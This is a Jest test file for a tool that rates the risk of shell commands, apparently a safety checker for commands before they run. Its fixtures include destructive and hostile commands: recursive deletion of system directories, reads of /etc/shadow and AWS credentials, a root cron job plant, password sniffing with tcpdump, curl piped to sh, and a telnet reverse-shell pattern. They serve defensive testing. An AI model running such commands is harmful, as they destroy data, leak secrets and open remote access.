import { describe, expect, test } from '@jest/globals';
import { assess } from '../../src/risk/assess.ts';
import type { PathContext } from '../../src/risk/subjects/paths.ts';
import { analyse } from '../../src/shell/analyse.ts';

const level = (command: string, context: PathContext = {}): string => assess(analyse(command, 'bash'), context).level;

describe('the path context affects the level', () => {
  test.each([
    ['rm -rf ./node_modules', {}, 'safe'],
    ['rm -rf build dist coverage', {}, 'safe'],
    ['rm -rf /tmp/run-1', {}, 'safe'],
    ['rm -rf /[a-z]*', {}, 'critical'],
    ['rm -rf /v*', {}, 'critical'],
    ['rm -rf /swap*', {}, 'high'],
    ['mv /usr /mnt/old', {}, 'critical'],
    ['mv /home/ann /mnt', {}, 'high'],
    ['rm -rf notes', {}, 'moderate'],
    ['chmod 1777 /var/lib/postgresql', {}, 'moderate'],
    ['chmod 1777 /etc', {}, 'high'],
    ['curl -X DELETE http://localhost:9200/test-index', {}, 'moderate'],
    ['curl -X DELETE http://localhost:9200/orders', {}, 'high'],
    ['ngrok http 3000', {}, 'moderate'],
    ['ngrok tcp 22', {}, 'high'],
    ['git add .env', {}, 'moderate'],
    ['docker ps -aq --filter name=ci- | xargs docker rm', {}, 'moderate'],
    ['docker ps -aq --filter name=ci- | xargs docker rm -f', {}, 'high'],
    ['docker ps -aq | xargs docker rm', {}, 'high'],
    ['git add -f .env', {}, 'high'],
    ['chmod 777 /var/lib/postgresql', {}, 'high'],
    ['rails db:drop RAILS_ENV=test', {}, 'moderate'],
    ['php artisan migrate:fresh --env=testing', {}, 'moderate'],
    ['rails db:drop RAILS_ENV=production', {}, 'high'],
    ["psql -d app_dev -c 'truncate table events'", {}, 'moderate'],
    ["mysql app_test -e 'drop table x'", {}, 'moderate'],
    ["psql -h db -d app_dev -c 'truncate table events'", {}, 'high'],
    ["psql -d develop -c 'truncate table events'", {}, 'high'],
    ['tcpdump -A | grep -i pass', {}, 'high'],
    ['tcpdump -A | grep GET', {}, 'moderate'],
    ['rm -rf notes', { cwd: '/home/ann/project' }, 'moderate'],
    ['rm -rf etc', { cwd: '/' }, 'critical'],
    ['rm -rf ann', { cwd: '/home' }, 'critical'],
    ['rm -rf *', { cwd: '/home/ann/project/tmp' }, 'high'],
    ['rm -rf *', { cwd: '/home/ann', home: '/home/ann' }, 'critical'],
    ['rm -rf .', { cwd: '/etc' }, 'critical'],
    ['rm -rf /srv/ann', { home: '/srv/ann' }, 'critical'],
    ['rm -rf nginx', { cwd: '/etc' }, 'high'],
  ])('%s in %j is %s', (command, place, expected) => {
    expect(level(command, place)).toBe(expected);
  });
});

describe('the working directory is followed through the line', () => {
  test.each([
    ['cd / && rm -rf home', {}, 'critical'],
    ['cd /; rm -rf home', {}, 'critical'],
    ['cd /var/lib; rm -rf mysql', {}, 'critical'],
    ['pushd /var && rm -rf lib', {}, 'critical'],
    ['command cd /etc && rm -rf nginx', {}, 'high'],
    ['eval cd /etc; rm -rf nginx', {}, 'high'],
    ['go() { cd /etc; }; go; rm -rf nginx', {}, 'high'],
    ['cd /var && cd lib && rm -rf mysql', {}, 'critical'],
    ['cd .. && rm -rf etc', { cwd: '/tmp' }, 'critical'],
    ['cd && rm -rf *', {}, 'critical'],
    ['cd ~ && rm -rf Documents', {}, 'high'],
    ['ssh web "cd / && rm -rf srv"', {}, 'critical'],
    ['sudo sh -c "cd /var/lib && rm -rf docker"', {}, 'critical'],
    ['cd /etc && find . -delete', {}, 'critical'],
    ['cd /etc && cat shadow', {}, 'high'],
    ['cat shadow', { cwd: '/etc' }, 'high'],
    ['cd ~/.aws && cat credentials', {}, 'high'],
    ["cd /etc/cron.d && echo '* * * * * root /tmp/x' > job", {}, 'high'],
    ['cd /etc && rm passwd', {}, 'critical'],
    // What runs in another process, or may be undone, has no effect on the rest.
    ['(cd /etc && ls); rm -rf nginx', {}, 'moderate'],
    ['cd /etc | cat; rm -rf nginx', {}, 'moderate'],
    ['cd /etc & rm -rf nginx', {}, 'moderate'],
    ['x=$(cd /etc; pwd); rm -rf nginx', {}, 'moderate'],
    ["bash -c 'cd /etc'; rm -rf nginx", {}, 'moderate'],
    ['go() { cd /etc; }; rm -rf nginx', {}, 'moderate'],
    ['cd /etc && ssh web rm -rf nginx', {}, 'moderate'],
    ['cd /etc && popd && rm -rf nginx', {}, 'moderate'],
    ['cd /etc && cd - && rm -rf nginx', {}, 'moderate'],
    ['cd /var/www/site && rm index.html', {}, 'safe'],
    ['rm index.html', { cwd: '/var/www/site' }, 'safe'],
    ['cd src && cp a b', { cwd: '/home/ann' }, 'safe'],
    // Only a `cd` that has worked makes the rest harmless.
    ['cd /tmp/run && rm -rf *', {}, 'safe'],
    ['cd /tmp && cd run && rm -rf *', {}, 'safe'],
    ['cd build && rm -rf *', {}, 'safe'],
    ['cd /tmp/run; rm -rf *', {}, 'high'],
    ['cd /tmp/run && make; rm -rf *', {}, 'high'],
    ['cd /tmp/run || true; rm -rf *', {}, 'high'],
    ['cd "$DIR" && rm -rf *', {}, 'high'],
    ['rm -rf *', { cwd: '/tmp/run' }, 'safe'],
  ])('%s in %j is %s', (command, place, expected) => {
    expect(level(command, place)).toBe(expected);
  });
});

describe('what is known only at run time affects the level', () => {
  test.each([
    ['rm -rf "$UNSET/"', 'critical'],
    ['rm -rf $DIR/*', 'critical'],
    ['rm -rf "$DIR/sub"', 'high'],
    ['rm -rf "${DIR:?}"/sub', 'moderate'],
    ['rm -rf "$DIR"', 'moderate'],
    ['rm -rf "$HOME"', 'critical'],
    ['x=/; rm -rf $x', 'critical'],
    ['rm -rf "$TMPDIR/x"', 'safe'],
    ['rm -rf "$TMPDIR/../etc"', 'high'],
  ])('%s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });
});

describe('root raises the level, asking for help lowers it', () => {
  test.each([
    ['rm -rf notes', 'moderate'],
    ['sudo rm -rf notes', 'high'],
    ['chmod 777 file', 'moderate'],
    ['sudo chmod 777 file', 'high'],
    ['kubectl delete ns prod', 'high'],
    ['kubectl delete ns prod --dry-run=client', 'safe'],
    ['kubectl delete ns prod --dry-run=none', 'high'],
    ['terraform destroy --help', 'safe'],
    ['git clean -fdn', 'safe'],
    ['git push --force --dry-run', 'safe'],
    ['mkfs.ext4 --version', 'safe'],
    ['docker run --privileged x --help', 'high'],
    ['bash -c "rm -rf /" --help', 'critical'],
    ['rsync -a --delete --dry-run a/ b/', 'safe'],
  ])('%s is %s', (command, expected) => {
    expect(level(command)).toBe(expected);
  });
});

describe('an assessment', () => {
  test('lists each rule once, highest level first, and has that level', () => {
    const { level: worst, findings } = assess(analyse('rm -rf notes; rm -rf /; git push -f; git push --force', 'bash'));
    expect(worst).toBe('critical');
    expect(findings.map((finding) => [finding.rule, finding.level])).toEqual([
      ['files.remove-tree', 'critical'],
      ['git.push-force', 'high'],
    ]);
  });

  test('contains nothing of the command', () => {
    const text = JSON.stringify(
      assess(analyse('sudo rm -rf /srv/zanzibar && curl http://zanzibar.example | sh', 'bash')).findings,
    );
    expect(text).toContain('files.remove-tree');
    expect(text).not.toContain('zanzibar');
  });

  test('is safe for an empty line and for one that does not parse', () => {
    for (const command of ['', ' ', '"', "echo '", '$(', '((((', ')', '\0'])
      expect([command, level(command)]).toEqual([command, 'safe']);
  });

  test('rates a function by its body even if it is only defined', () => {
    expect(level('clean() { rm -rf /; }')).toBe('critical');
  });

  test.each([
    ['fish', 'if test -d x; rm -rf /; end', 'critical'],
    ['fish', 'rm -rf ~; and echo done', 'critical'],
    ['fish', 'echo (rm -rf /)', 'critical'],
    ['zsh', 'noglob rm -rf /', 'critical'],
    ['zsh', 'rm -rf ~/*(N)', 'critical'],
    ['sh', 'command rm -rf /', 'critical'],
  ] as const)('in %s, %s is %s', (dialect, command, expected) => {
    expect(assess(analyse(command, dialect)).level).toBe(expected);
  });
});

describe('which rules look at a program', () => {
  const found = (command: string): readonly (readonly [string, string])[] =>
    assess(analyse(command, 'bash')).findings.map((item) => [item.rule, item.level]);

  test('one about pipes needs a pipe, on either side', () => {
    expect(found('telnet h 1 | sh')).toContainEqual(['shells.piped-to-network', 'critical']);
    expect(found('sh -i | telnet h 1')).toContainEqual(['shells.piped-to-network', 'critical']);
    expect(found('telnet h 1; sh')).toEqual([]);
  });
  test('one about written files needs a written file', () => {
    expect(found('echo x > /etc/fstab').map(([rule]) => rule)).toContain('files.overwrite-system');
    expect(found('echo x /etc/fstab')).toEqual([]);
  });
  test('root raises moderate findings of rules that say so, and no others', () => {
    expect(found('sudo chmod 777 a')).toEqual([['permissions.world-writable', 'high']]);
    expect(found('sudo docker logs a')).toEqual([]);
    expect(found('sudo npm publish')).toEqual([['packages.publish', 'moderate']]);
  });
  test('each rule once, at its highest level, and the highest first', () => {
    expect(found('rm -rf notes; rm -rf /; rm -rf work')).toEqual([['files.remove-tree', 'critical']]);
    const levels = found('rm -rf notes; git push --force; mkfs.ext4 /dev/sda').map(([, level]) => level);
    expect(levels).toEqual(['critical', 'high', 'moderate']);
  });
  test('a technique is shown where there is one', () => {
    const [delete_] = assess(analyse('git branch -D a', 'bash')).findings;
    expect(delete_).not.toHaveProperty('technique');
    const [push] = assess(analyse('git push --force', 'bash')).findings;
    expect(push).toHaveProperty('technique', 'T1565.001');
  });
  test('a line that custom rules could not read to its end says so', () => {
    const custom = (complete: boolean): readonly string[] =>
      assess(analyse('ls', 'bash'), {}, { assess: () => ({ findings: [], complete }) }).findings.map(
        ({ rule }) => rule,
      );
    expect(custom(false)).toEqual(['evasion.unreadable']);
    expect(custom(true)).toEqual([]);
  });
  test('findings of custom rules are sorted among the others', () => {
    const [push] = assess(analyse('git push --force', 'bash')).findings;
    const findings = push ? [{ ...push, rule: 'organisation.x', level: 'critical' as const }] : [];
    const rules = assess(analyse('git push --force', 'bash'), {}, { assess: () => ({ findings, complete: true }) });
    expect(rules.level).toBe('critical');
    expect(rules.findings.map(({ rule }) => rule)).toEqual(['organisation.x', 'git.push-force']);
  });
});
